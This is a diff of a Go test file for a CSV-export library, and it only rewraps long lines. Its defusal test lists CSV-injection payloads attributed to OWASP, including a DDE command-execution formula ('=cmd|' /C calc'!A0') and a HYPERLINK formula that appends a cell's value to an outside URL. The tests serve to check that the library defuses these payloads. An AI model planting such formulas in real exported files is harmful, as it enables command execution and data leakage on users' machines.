@@ -33,12 +33,14 @@ children,09521234500032,"=HYPERLINK(""http://books.example/"",""Mole & Moon"")",
 	require.ErrorContains(t, sheet.WriteCSV(io.Discard, differences(), sheet.CSVOptions{DecimalComma: true}), "set both or neither")
 }
 
-// Any texts come back from the standard library's reader as they went in; but that one turns CR LF inside of quotes into LF.
+// Any texts come back from the standard library's reader as they went in; but that one turns CR LF
+// inside of quotes into LF.
 func TestCSVRoundTrip(t *testing.T) {
 	rapid.Check(t, func(t *rapid.T) {
 		columns := rapid.IntRange(1, 4).Draw(t, "columns")
 		cell := rapid.OneOf(rapid.String(), rapid.StringMatching(`[ ,;"'\r\n\t=+@-]{0,6}`), rapid.StringMatching(`[a-c,"]{0,5}`))
-		opts := sheet.CSVOptions{BOM: rapid.Bool().Draw(t, "bom"), Semicolons: rapid.Bool().Draw(t, "semicolons"), Defuse: rapid.Bool().Draw(t, "defuse")}
+		opts := sheet.CSVOptions{BOM: rapid.Bool().Draw(t, "bom"), Semicolons: rapid.Bool().Draw(t, "semicolons"),
+			Defuse: rapid.Bool().Draw(t, "defuse")}
 		table := sheet.Table{Name: "Titles"}
 		want := [][]string{{}}
 		for i := range columns {
@@ -83,7 +85,8 @@ func TestCSVRoundTrip(t *testing.T) {
 // Cases from OWASP, "CSV Injection" (from memory), with what is harmless beside them.
 func TestFormulasAreDefused(t *testing.T) {
 	for _, s := range []string{
-		"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://books.example?\"&A1,\"more\")", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1",
+		"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://books.example?\"&A1,\"more\")",
+		"\t=1+1", "\r=1+1", "\n=1+1", "\x00=1",
 		"＝1+1", "＋1", "－1", "＠A1", "=1+2\";=1+2", "=1+2'\" ;,=1+2", "-", "=",
 	} {
 		require.True(t, sheet.Runs(s), "%q", s)
@@ -134,7 +137,8 @@ func FuzzCSV(f *testing.F) {
 		if !utf8.ValidString(a) || !utf8.ValidString(b) {
 			t.Skip()
 		}
-		table := sheet.Table{Name: "T", Columns: []sheet.Column{{Name: "a"}, {Name: "b"}}, Rows: sheet.Rows([]sheet.Cell{sheet.Text(a), sheet.Text(b)})}
+		table := sheet.Table{Name: "T", Columns: []sheet.Column{{Name: "a"}, {Name: "b"}},
+			Rows: sheet.Rows([]sheet.Cell{sheet.Text(a), sheet.Text(b)})}
 		var out bytes.Buffer
 		require.NoError(t, sheet.WriteCSV(&out, table, sheet.CSVOptions{}))
 		got, err := csv.NewReader(&out).ReadAll()
